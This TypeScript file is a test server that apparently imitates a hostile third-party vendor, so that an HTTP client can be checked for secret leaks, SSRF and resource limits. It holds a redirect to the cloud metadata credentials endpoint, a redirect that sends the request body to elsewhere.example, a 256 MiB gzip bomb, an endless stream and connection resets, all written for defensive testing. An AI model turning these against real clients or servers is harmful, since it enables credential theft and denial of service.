import type { ServerResponse } from "node:http";
import { createGzip, gzipSync } from "node:zlib";
import { Readable } from "node:stream";
import type { Seen } from "./server.ts";

const MEBIBYTE = 1_048_576;
const BOMB_MEBIBYTES = 256;

const HANG_UPS = 2;
const times = new Map<string, number>();

type Act = (seen: Seen, outgoing: ServerResponse) => void;

/** What a vendor can do that should not have been trusted; each on a path of its own. */
export const TRICKS: Readonly<Record<string, Act>> = {
  /** Says back what it got, as it got it. */
  echo: (seen, outgoing) => text(outgoing, 200, `${seen.path}\n${JSON.stringify(seen.headers)}\n${seen.body}`),
  /** In headers: their values, their names, cookies, the reason phrase. */
  "echo-headers": (seen, outgoing) => {
    const word = seen.body.replaceAll(/[^\x20-\x7e]/gu, "").slice(0, 4_000);
    const token = word.replaceAll(/[^A-Za-z0-9]/gu, "").slice(0, 60) || "x";
    outgoing.writeHead(200, word.slice(0, 200), { "x-echo": word, [`x-${token}`]: "1", "set-cookie": `echo=${encodeURIComponent(word)}` });
    outgoing.end("see the headers");
  },
  /** In every encoding that comes to mind. */
  encodings: (seen, outgoing) => text(outgoing, 200, encodingsOf(seen.body).join("\n")),
  "redirect-loopback": (seen, outgoing) =>
    redirect(outgoing, `http://127.0.0.1:${String(seen.headers.host).split(":")[1] ?? 80}/hostile/echo`),
  "redirect-metadata": (_seen, outgoing) => redirect(outgoing, "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
  "redirect-echo": (seen, outgoing) => redirect(outgoing, `https://elsewhere.example/?got=${encodeURIComponent(seen.body)}`),
  /** Never ends. */
  forever: (_seen, outgoing) => {
    outgoing.writeHead(200, { "content-type": "text/plain" });
    const timer = setInterval(() => outgoing.write("and so on "), 50);
    outgoing.once("close", () => clearInterval(timer));
  },
  gibibyte: (_seen, outgoing) => {
    outgoing.writeHead(200, { "content-type": "text/plain", "content-length": 1_024 * MEBIBYTE });
    pour(outgoing, Buffer.alloc(MEBIBYTE, "4242424242424242 "), 1_024);
  },
  "gzip-bomb": (_seen, outgoing) => {
    outgoing.writeHead(200, { "content-type": "application/json", "content-encoding": "gzip" });
    const zeros = Readable.from(Array.from({ length: BOMB_MEBIBYTES }, () => Buffer.alloc(MEBIBYTE)));
    zeros.pipe(createGzip()).pipe(outgoing);
  },
  /** A byte now and then. */
  slow: (_seen, outgoing) => {
    outgoing.writeHead(200, { "content-type": "text/plain" }).flushHeaders();
    const timer = setInterval(() => outgoing.write("4"), 2_000);
    outgoing.once("close", () => clearInterval(timer));
  },
  /** Takes it, and says nothing. */
  silent: () => undefined,
  reset: (_seen, outgoing) => void outgoing.socket?.resetAndDestroy(),
  /** Hangs up on the first two who ask for the same (`?of=…`), and answers the third. */
  flaky: (seen, outgoing) => {
    const asked = (times.get(seen.path) ?? 0) + 1;
    times.set(seen.path, asked);
    if (asked <= HANG_UPS) outgoing.socket?.resetAndDestroy();
    else text(outgoing, 200, `answered after ${asked}`);
  },
  /** A charset of its own. */
  "utf-16": (seen, outgoing) => {
    outgoing.writeHead(200, { "content-type": "text/plain; charset=utf-16le" });
    outgoing.end(Buffer.from(seen.body, "utf16le"));
  },
  "gzip-echo": (seen, outgoing) => {
    outgoing.writeHead(200, { "content-type": "text/plain", "content-encoding": "gzip" });
    outgoing.end(gzipSync(seen.body));
  },
  error: (seen, outgoing) => text(outgoing, 500, `Traceback: cannot parse '${seen.body}'`),
};

export function actHostile(seen: Seen, outgoing: ServerResponse): void {
  const name = seen.path.slice("/hostile/".length).split("?")[0] ?? "";
  const act = Object.hasOwn(TRICKS, name) ? TRICKS[name] : undefined;
  if (act === undefined) text(outgoing, 404, Object.keys(TRICKS).join("\n"));
  else act(seen, outgoing);
}

function text(outgoing: ServerResponse, status: number, body: string): void {
  outgoing.writeHead(status, { "content-type": "text/plain; charset=utf-8" });
  outgoing.end(body);
}

function redirect(outgoing: ServerResponse, location: string): void {
  outgoing.writeHead(302, { location });
  outgoing.end();
}

function pour(outgoing: ServerResponse, chunk: Buffer, times: number): void {
  let left = times;
  const more = (): void => {
    while (left > 0 && !outgoing.destroyed) {
      left -= 1;
      if (!outgoing.write(chunk)) return void outgoing.once("drain", more);
    }
    outgoing.end();
  };
  more();
}

function encodingsOf(body: string): readonly string[] {
  const bytes = Buffer.from(body);
  const each = (write: (hex: string) => string): string => Array.from(bytes, (byte) => write(byte.toString(16).padStart(2, "0"))).join("");
  const units = (write: (code: number) => string): string =>
    Array.from({ length: body.length }, (_, n) => write(body.charCodeAt(n))).join("");
  return [
    body.toUpperCase(),
    body.toLowerCase(),
    Array.from(body).toReversed().join(""),
    Array.from(body).join(" "),
    Array.from(body).join("-"),
    encodeURIComponent(body),
    encodeURIComponent(encodeURIComponent(body)),
    each((hex) => `%${hex}`),
    each((hex) => `=${hex.toUpperCase()}`),
    each((hex) => `\\x${hex}`),
    units((code) => `&#${code};`),
    units((code) => `&#x${code.toString(16)};`),
    units((code) => `\\u${code.toString(16).padStart(4, "0")}`),
    JSON.stringify(JSON.stringify(body)),
    bytes.toString("base64"),
    Buffer.from(`x${body}`).toString("base64"),
    Buffer.from(`xy${body}`).toString("base64"),
    bytes.toString("base64url"),
    Buffer.from(bytes.toString("base64")).toString("base64"),
    bytes.toString("hex"),
    bytes.toString("hex").toUpperCase(),
  ];
}
